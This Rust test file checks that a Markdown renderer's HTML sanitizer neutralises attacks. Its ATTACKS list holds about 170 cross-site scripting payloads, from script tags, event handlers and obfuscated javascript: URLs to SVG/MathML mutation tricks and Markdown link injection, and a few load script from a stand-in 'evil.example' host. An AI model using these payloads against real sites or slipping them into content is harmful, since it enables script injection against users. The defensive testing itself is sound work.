//! Attacks on readers, each rendered and judged by an independent parse.

mod judge;

use judge::complaints;
use markup::render;

#[test]
fn no_attack_survives() {
    assert!(ATTACKS.len() >= 120, "{}", ATTACKS.len());
    for attack in ATTACKS {
        // Alone, in the middle of a line, in containers, and left open before other Markdown.
        for body in [
            (*attack).to_owned(),
            format!("text {attack} text"),
            format!("> - {attack}\n\n# After\n\n`code` [link](/x)"),
            format!("| a |\n|---|\n| {attack} |\n"),
        ] {
            let html = render(&body).html;
            assert_eq!(complaints(&html), Vec::<String>::new(), "{body}\nbecame\n{html}");
            let again = render(&html).html;
            assert_eq!(complaints(&again), Vec::<String>::new(), "rendered twice:\n{again}");
        }
    }
}

#[test]
fn what_is_dangerous_leaves_no_text_behind() {
    for body in ["<script>alert(1)</script>", "<style>p{}</style>", "<svg><text>alert(1)</text></svg>"] {
        let html = render(body).html;
        assert!(!html.contains("alert") && !html.contains("p{}"), "{html}");
    }
}

#[test]
fn the_judge_sees_what_it_should() {
    for bad in [
        "<script>x</script>",
        "<p onclick=x>",
        "<a href=javascript:x>",
        "<a href='java\tscript:x'>",
        "<img src=data:x>",
        "<input>",
        "<p id=x>",
        "<p class=x>",
        "<svg><a>x</a></svg>",
        "<!-- x -->",
    ] {
        assert_ne!(complaints(bad), Vec::<String>::new(), "{bad}");
    }
}

const ATTACKS: &[&str] = &[
    // Scripts.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script>",
    "<script type=module>import '//evil.example'</script>",
    "<script><!--<script>alert(1)</script>--></script>",
    "</script><script>alert(1)</script>",
    "<script>\n\nalert(1)\n\n</script>",
    "<noscript><script>alert(1)</script></noscript>",
    // Handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x ONERROR=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=x onerror=&#97;lert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<p onclick='alert(1)'>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div onpointerenter=alert(1)>x</div>",
    "<a href=/x onfocus=alert(1) autofocus>x</a>",
    "<table onload=alert(1)><tr><td onclick=alert(1)>x</table>",
    "<h2 onclick=alert(1) id=x>x</h2>",
    "<li onanimationstart=alert(1)>x",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>x",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<keygen onfocus=alert(1)>",
    // Addresses in raw HTML.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"&#14; javascript:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"java&#13;script:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&#0000058alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=javascript://%0aalert(1)>x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"blob:https://x/y\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"view-source:javascript:alert(1)\">x</a>",
    "<a href=\"jar:javascript:alert(1)\">x</a>",
    "<a href=/x ping=javascript:alert(1)>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a href=/x target=_blank rel=opener>x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<img src=x lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
    "<q cite=\"vbscript:x\">x</q>",
    "<del cite=\" java&#9;script:x\">x</del>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</table>",
    "<area href=javascript:alert(1)>",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    // Frames, objects and forms.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<portal src=x></portal>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<input type=image src=x onerror=alert(1)>",
    "<input type=password name=p>",
    "<input type=hidden name=csrf value=x>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button><div popover id=x>x</div>",
    "<dialog open onclose=alert(1)>x</dialog>",
    // Styles.
    "<style>@import 'javascript:alert(1)';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<div class=\"admin-button\">x</div>",
    "<code class=\"language-x evil\">x</code>",
    "<font color=expression(alert(1))>x</font>",
    // Foreign content.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href=\"data:image/svg+xml,x#y\"/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext></p><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    // Markup that is read differently the second time.
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><td><form><table></table></form><img src=x onerror=alert(1)>",
    "<p title=\"&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;\">x</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y \"<img src=x onerror=alert(1)>\">]>&y;",
    "<img src=`x` `onerror=alert(1)`>",
    "<a href=\"x\" title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<\u{0}script>alert(1)</script>",
    "<img \u{0}src=x onerror=alert(1)>",
    "<custom-element is=x onclick=alert(1)>x</custom-element>",
    "<slot onslotchange=alert(1)>x</slot>",
    // Markdown of its own.
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](java&#9;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](/y \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](/y '\"><img src=x onerror=alert(1)>')",
    "[x](https://a\"onclick=alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)> \"t\"\n\n[x][] ![x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![\"onerror=alert(1) x=\"](x)",
    "![<img src=x onerror=alert(1)>](x)",
    "<javascript:alert(1)>",
    "<JaVaScRiPt:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "javascript:alert(1)",
    "www.example.com\"onclick=alert(1)",
    "https://example.com/<script>alert(1)</script>",
    "a@b.example\"onclick=alert(1)",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x\" onclick=\"alert(1)\nx\n```",
    "~~~ <img src=x onerror=alert(1)>\nx\n~~~",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "# \"><img src=x onerror=alert(1)>",
    "<script>a</script>\n===",
    "- [ ] <input type=file>",
    "~~<s onclick=alert(1)>x</s>~~",
    "*<a href=\"javascript:alert(1)*\">x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=\"[x](javascript:alert(1))\">x</a>",
    "[<img src=x onerror=alert(1)>](javascript:alert(1))",
];
